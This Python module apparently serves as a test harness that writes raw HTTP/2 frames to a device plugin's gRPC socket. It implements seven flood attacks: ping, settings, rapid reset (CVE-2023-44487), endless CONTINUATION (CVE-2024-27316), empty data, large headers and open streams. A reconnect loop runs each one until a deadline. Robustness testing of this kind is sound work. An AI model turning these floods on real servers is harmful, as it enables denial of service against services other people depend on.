"""Raw HTTP/2 (RFC 9113) against a plugin's socket: what no client library can be made to send."""

import socket
import struct
import time
from collections.abc import Callable, Iterator
from pathlib import Path

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0x0, 0x1, 0x3, 0x4, 0x6, 0x9
END_STREAM, END_HEADERS = 0x1, 0x4
BATCH = 256  # frames in one write
ALLOCATE = "/v1beta1.DevicePlugin/Allocate"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame (RFC 9113, 4.1)."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def field(name: str, value: str) -> bytes:
    """A header field without indexing and without compression (RFC 7541, 6.2.2)."""
    return b"\x00" + _text(name) + _text(value)


def _text(text: str) -> bytes:
    data = text.encode()
    return _length(len(data)) + data


def _length(number: int) -> bytes:
    """An integer with a prefix of seven bits (RFC 7541, 5.1)."""
    if number < 127:
        return bytes([number])
    number, parts = number - 127, bytearray([127])
    while number >= 128:
        parts.append(number % 128 + 128)
        number //= 128
    return bytes([*parts, number])


def request(method: str = ALLOCATE) -> bytes:
    """The header block of a gRPC call."""
    pairs = {
        ":method": "POST",
        ":scheme": "http",
        ":path": method,
        ":authority": "localhost",
        "content-type": "application/grpc",
        "te": "trailers",
    }
    return b"".join(field(name, value) for name, value in pairs.items())


def streams() -> Iterator[int]:
    """The numbers that a client's streams have."""
    return iter(range(1, 1 << 31, 2))


def ping() -> Iterator[bytes]:
    """PINGs, which each want an answer."""
    while True:
        yield frame(PING, 0, 0, b"12345678")


def settings() -> Iterator[bytes]:
    """SETTINGS, which each want an answer."""
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535))


def rapid_reset() -> Iterator[bytes]:
    """Calls that are taken back at once (CVE-2023-44487)."""
    head = request()
    for number in streams():
        yield frame(HEADERS, END_HEADERS, number, head) + frame(
            RST_STREAM, 0, number, struct.pack(">I", 8)
        )


def continuation() -> Iterator[bytes]:
    """A head that never ends (CVE-2024-27316 and others)."""
    yield frame(HEADERS, 0, 1, request())
    more = b"".join(field(f"x-{n}", "v" * 100) for n in range(100))
    while True:
        yield frame(CONTINUATION, 0, 1, more)


def empty_data() -> Iterator[bytes]:
    """DATA without any byte, for ever."""
    yield frame(HEADERS, END_HEADERS, 1, request())
    while True:
        yield frame(DATA, 0, 1)


def large_headers() -> Iterator[bytes]:
    """Calls whose header has 16 KB, each on a stream of its own that is left open."""
    value = "v" * 15000
    for number in streams():
        yield frame(HEADERS, END_HEADERS, number, request() + field("x-large", value))


def open_streams() -> Iterator[bytes]:
    """Calls of which nothing more comes."""
    head = request()
    for number in streams():
        yield frame(HEADERS, END_HEADERS, number, head)


Frames = Callable[[], Iterator[bytes]]
FLOODS: dict[str, Frames] = {
    "ping flood": ping,
    "settings flood": settings,
    "rapid reset": rapid_reset,
    "continuation flood": continuation,
    "empty data": empty_data,
    "large headers": large_headers,
    "open streams": open_streams,
}


def flood(path: Path, frames: Frames, until: float) -> int:
    """Send `frames` until that time (monotonic), connecting again when the connection is closed;
    how many connections it took."""
    connections = 0
    while time.monotonic() < until:
        connections += 1
        try:
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as peer:
                peer.settimeout(0.2)
                peer.connect(str(path))
                peer.sendall(PREFACE + frame(SETTINGS, 0, 0))
                _pour(peer, frames(), until)
        except OSError:
            time.sleep(0.001)
    return connections


def _pour(peer: socket.socket, frames: Iterator[bytes], until: float) -> None:
    while time.monotonic() < until:
        peer.sendall(b"".join(next(frames) for _ in range(BATCH)))
        _drain(peer)


def _drain(peer: socket.socket) -> None:
    """Read what came back: a peer that reads nothing is only one kind of attack."""
    peer.setblocking(False)
    try:
        while peer.recv(1 << 16):
            pass
    except BlockingIOError:
        pass
    finally:
        peer.settimeout(0.2)
